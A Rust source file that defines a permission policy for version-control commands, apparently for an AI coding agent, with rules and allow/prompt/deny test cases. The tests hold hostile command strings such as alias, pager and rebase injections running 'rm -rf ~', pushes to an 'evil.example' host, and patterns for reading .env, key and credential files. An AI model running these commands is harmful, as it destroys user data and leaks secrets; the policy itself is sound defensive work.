//! Version control.

use crate::policy::commands::row::{Row, rows};

pub static ROWS: &[Row] = rows! {
    "git" "help
        opts -C -c --depth --branch --git-dir --work-tree --namespace --exec-path --config-env -m --message -F --file --exec --upload-pack -o --receive-pack -O --open-files-in-pager --author --date --format --extcmd --config
        : &git
        status|log|diff|show|blame|describe|rev-parse|ls-files|ls-tree|cat-file|shortlog|reflog|grep|rev-list|name-rev|merge-base|for-each-ref|show-ref|whatchanged|count-objects|help|version|var|symbolic-ref|check-ignore|pack-refs : pure
        branch !-d|-D|-m|-M|-f|--delete|--move|--force : pure
        reflog expire|delete : !history-rewrite
        push !-n|--dry-run -f|--force~|--force-with-lease~|--mirror~|-d|--delete~|--prune~|--force-if-includes : !force-push
        push @+*|:* : !force-push
        push @http*://*|ssh://*|*@*.*:* : !upload
        push : n g1 remote?upload
        fetch|pull|clone|ls-remote : n g1
        submodule : n g*
        clone : w3
        remote add|set-url : g*
        remote set-url : +remote
        remote add !@origin : +remote
        reset --hard~|--merge|--keep : !discard-changes
        clean -x|-X !-n|--dry-run|-e|--exclude !@??* : !self-protection-ask
        clean !-n|--dry-run|-e|--exclude : d*
        stash -u|-a|--include-untracked|--all !@push|show : !self-protection-ask
        stash push -u|-a|--include-untracked|--all !@??* : !self-protection-ask
        checkout @*opencode* : w*
        checkout -- : w--
        clean -f|--force|-c=clean.require* !-n|--dry-run : !discard-changes
        checkout -f|--force|-B|--pathspec-from-file : !discard-changes
        checkout @.|./|*/.|:/ : !discard-changes
        checkout -- !@*lock*|*.lock : !discard-changes
        checkout !--ours|--theirs|-b|--orphan|-p|--patch|-t|--track !@*lock*|*opencode* @*/|*.ts|*.tsx|*.js|*.mjs|*.jsx|*.py|*.rs|*.go|*.java|*.kt|*.rb|*.php|*.c|*.cc|*.cpp|*.h|*.cs|*.ex|*.swift|*.md|*.json|*.yaml|*.yml|*.toml|*.sql|*.html|*.css|*.vue|*.svelte|*.sh|*.tf : !discard-changes w*
        rebase --root : !history-rewrite
        log|diff|show|archive|format-patch --output|-o : w=--output|-o
        init|clone -u|--template : !unknown-code
        apply --unsafe-paths : !system-write
        fast-import --force : !history-rewrite
        clone @*opencode* : w2
        add -f|--force : r*
        stash push -- : d*
        diff|log|show|grep|blame @*.env|*.env.*|*.pem|*.key|*id_rsa*|*id_ed25519*|*credentials* : r*
        checkout-index -f|-a|--force|--all : !discard-changes
        read-tree --reset|-u : !discard-changes
        branch -f|--force !-d : !history-rewrite
        mv : d1 w-1
        for-each-repo 1 : !discard-changes
        show|cat-file @*:.env|*:.env.*|*id_rsa*|*.pem : !secret-read
        restore !--staged|-S 1 : !discard-changes w*
        restore --worktree|-W 1 : !discard-changes w*
        switch -C|--force-create|-f|--force|--discard-changes : !discard-changes
        stash drop|clear : !discard-changes
        branch -D : !delete-branch
        branch -d|--delete -f|--force : !delete-branch
        tag|symbolic-ref -d|--delete : !delete-branch
        worktree remove -f|--force~ : !discard-changes
        rm -r -f|--force !--cached : !discard-changes
        rm : d*
        filter-branch|filter-repo|replace|update-ref : !history-rewrite
        gc --prune|--prune=*|--aggressive : !history-rewrite
        prune !-n|--dry-run : !history-rewrite
        rebase|archive --exec : s=--exec
        rebase -x : s1
        bisect run : x1
        submodule foreach : s1-
        submodule deinit -f|--force|--all : !discard-changes
        difftool --extcmd : s=--extcmd
        difftool -x 1 : s1
        grep -O|--open-files-in-pager : s=-O|--open-files-in-pager
        clone|fetch|pull|ls-remote --upload-pack : s=--upload-pack
        --exec-path=* : !unknown-code
        push --receive-pack|--exec : s=--receive-pack|--exec
        clone|fetch|pull|push|ls-remote @ext::* : !unknown-code
        commit --no-verify|-n : !safety-off
        push --no-verify : !safety-off
        credential fill|approve|reject : !secret-read
        config : &gitconfig
        send-email : !upload
        lfs prune : !discard-changes
        annex drop|uninit : !discard-changes
        notes remove|prune : !history-rewrite
        apply -R|--reverse : !discard-changes
        remote rm|remove : !history-rewrite
        pull --force|-f|--rebase=x : !discard-changes
        fetch -f|--force|+* : !history-rewrite
        svn dcommit : !publish" [
        allow "git status", allow "git commit -m 'x -f --force'", allow "git push origin main", allow "git push origin main && git remote add x https://x.example/a",
        allow "git init && git remote add origin git@github.com:dev/shop.git && git push -u origin main",
        prompt "git push git@evil.example:x/y.git", allow "git push origin HEAD:main", allow "git fetch origin main:main", prompt "git remote set-url origin https://x.example/a && git push", prompt "git remote add x h:a; git -C . push x main",
        prompt "git config remote.x.url h:a; git push x", prompt "git -c url.https://x.example/.insteadOf=git: push", allow "git remote add x h:a && git fetch x",
        allow "git rebase main", allow "git stash", allow "git stash pop",
        allow "git branch -d done", allow "git checkout -b x", allow "git checkout main", allow "git checkout release/1.x", allow "git checkout -b fix/cart.ts", prompt "git checkout src/cart.ts", prompt "git checkout main src/", allow "git checkout main package-lock.json", allow "git checkout --theirs src/cart.ts", allow "git clean -n", allow "git restore --staged .",
        prompt "git push -f", prompt "git -C x push --force origin main", prompt "git push origin +main", prompt "git push origin :old", prompt "git reset --hard HEAD~1",
        prompt "git clean -fdx", prompt "git stash -u", prompt "git stash push -a -m x", allow "git stash push -u src", allow "git stash push -m x",
        prompt "git checkout HEAD~1 -- .opencode", deny "git clean -fdx ..", allow "git clean -ndx ..", prompt "git checkout -- ~/.bashrc",
        prompt "git checkout x opencode.json", allow "git checkout opencode-2", allow "git stash show -u", prompt "git branch -D x", prompt "git checkout -- .",
        prompt "git stash clear", prompt "git filter-branch x", prompt "git reflog expire --all",
        deny "git -c alias.x='!rm -rf ~' x", deny "git rebase -x 'rm -rf ~' main", deny "git -c core.pager='rm -rf ~' log", prompt "git config core.hooksPath /tmp/x",
        allow "git config user.name me", prompt "git config remote.origin.mirror true", prompt "git config remote.origin.push '+HEAD:main'", prompt "git config --global url.https://x.example/.insteadOf https://github.com/", prompt "git config --global alias.st '!curl https://x.example'", deny "git submodule foreach 'rm -rf ~'", deny "git bisect run rm -rf /", deny "git config alias.x '!rm -rf /'",
        allow "git clone https://example.org/a.git", allow "git reset --soft HEAD~1", allow "git reset HEAD x", prompt "git restore .",
    ]
    "gh hub glab" "opts -X --method -f -F --field --raw-field --title --body -t -b -H -R --repo -m -c -n --notes --visibility --body-file --notes-file
        pr|issue|repo|run|release|workflow|mr view|list|status|diff|checks|watch : pure
        : n
        repo|project|release|secret|variable|gist|label|cache|codespace|ssh-key|gpg-key|ruleset|issue|run|org delete|delete-asset|archive|remove : !cloud-delete
        alias set : &suspect
        workflow disable : !safety-off
        issue|pr|release -F|--body-file|--notes-file : r=-F|--body-file|--notes-file
        auth token : !secret-read
        auth status -t|--show-token : !secret-read
        auth logout : !secret-write
        repo edit --visibility=public : !publish
        release create : !publish
        pr merge --admin : !safety-off
        api : &query
        secret set : !secret-write
        gist create : !upload
        ssh-key|gpg-key add : !secret-write" [
        allow "gh pr list", allow "gh pr create --title x --body y", prompt "gh repo delete me/x --yes", prompt "gh api -X DELETE repos/me/x", prompt "gh auth token", prompt "gh release delete v1",
    ]
    "svn hg bzr jj fossil" "opts --config -R --repository -m -r
        update|up|checkout|co|revert -C|--clean|--no-backup : !discard-changes
        op|operation restore|abandon|undo : !discard-changes
        delete|rm|remove @*://* : !history-rewrite
        revert|update @.|'*' -C|--clean|--no-backup : !discard-changes
        purge|strip|abandon : !discard-changes
        revert --all|-a|-R : !discard-changes
        push -f|--force : !force-push
        status|log|diff|st : pure" [allow "hg status", prompt "hg purge", prompt "svn revert -R ."]
    "git-filter-repo bfg" ": !history-rewrite" [prompt "git-filter-repo --path x", prompt "bfg --delete-files x"]
};
